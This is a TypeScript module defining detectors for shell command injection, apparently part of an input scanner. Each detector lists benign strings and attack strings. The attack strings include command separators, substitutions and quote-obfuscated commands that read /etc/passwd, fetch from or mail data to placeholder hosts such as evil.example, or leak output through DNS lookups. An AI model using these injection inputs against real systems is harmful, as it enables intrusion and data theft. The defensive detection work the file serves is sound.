/** Facts about the detectors of shell commands. Source: POSIX.1-2017, XCU chapter 2. */

import type { Detector } from '../detector.ts';

const source = 'POSIX.1-2017, XCU sections 2.2, 2.6 and 2.9';
const shared = { family: 'shell', source, confirmedBy: [932] } as const;
/** Ids of the detectors of shell commands. */
export const SHELL = {
  separated: 198_200,
  substituted: 198_201,
  weak: 198_202,
  hidden: 198_203,
} as const;

/** What commands of shells are found by. */
export const shellDetectors: readonly Detector[] = [
  {
    ...shared,
    id: SHELL.separated,
    name: 'shell-command',
    strong: true,
    proves: 'adds a shell command after a separator',
    examples: {
      attacks: [
        '8.8.8.8; cat /etc/passwd',
        'x|whoami',
        '1 && wget http://evil.example/x',
        '127.0.0.1;/bin/ls -la',
        'a\nuname -a',
        '1|c"a"t /etc/hosts',
        '; nslookup x.example',
        '127.0.0.1;id',
        'x.example;eval id',
        ...['127.0.0.1 & DIR C:\\', 'until then ;id;', 'see you ; dir'],
        ...['ping a.example; ping -c 9 b.example', 'x; echo 1 | psql -U a shop'],
        ...['; hostname', '| history', ';mount', 'a; mail b@c.example < /etc/passwd'],
        ...['a (b) & ipconfig /all', '8.8.8.8 && uname -a (b)', 'as agreed (b): ;crontab -l'],
      ],
      benign: [
        'wait; find the best one',
        ...['name;id;date', '| hostname | address |', '; time'],
        '| id | name |',
        'my script ends\n\nbash says that',
        'mysqldump shop > shop.sql; gzip shop.sql',
        ...['a & b; more or less', "ls -la | awk '{print $5, $9}'", 'get wget; wget --version'],
        'type; which is best; sleep well',
        ...['ping a.example fails; ping b.example works', 'echo "SELECT 1;" | psql -U app shop'],
        ...['all is there; ls -l a.sh shows no x', 'tasklist | findstr java'],
        ...['Tom & Jerry', 'Java | Python | Bash; SQL', 'openssl x509 -in a.pem | base64 -d | xxd'],
        'x;Ss<a',
        'x;CC',
        'a&w<b',
      ],
    },
  },
  {
    ...shared,
    id: SHELL.substituted,
    name: 'shell-substitution',
    strong: true,
    proves: 'substitutes the output of a shell command',
    examples: {
      attacks: [
        '$(whoami)',
        '`cat /etc/hosts`',
        'x$(cat /etc/hosts)y',
        '$(curl http://evil.example)',
        ...['<(ls -la)', 'nslookup `id`.x.example', '$(`cat /etc/hosts`)'],
        ...['`$(whoami)`', '`$(pwd)', '`$(ls /etc)`'],
      ],
      benign: ['use `$(pwd)` for it', '$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
    },
  },
  {
    ...shared,
    id: SHELL.weak,
    name: 'shell-word',
    strong: false,
    proves: 'holds what may be a shell command',
    examples: {
      attacks: ['use `id`', 'the `ls -la /etc` lists', 'x;id', 'fields|ls'],
      benign: [
        ...['plain text', 'a; b; c', 'use `const`', 'require a.php; at the top'],
        ...['the `ls -la` lists', 'run: npm ci && npm run build', 'cat a.txt | sort -u > b.txt'],
      ],
    },
  },
  {
    ...shared,
    id: SHELL.hidden,
    name: 'shell-hidden-command',
    strong: true,
    proves: 'hides the name of a command by quotes or escapes',
    examples: {
      attacks: [";w'h'oami", '|c\\at /etc/passwd', ';wh$@oami', ';l""s'],
      benign: ["a; it's", '; c:\\at', "'; 'who'"],
    },
  },
];
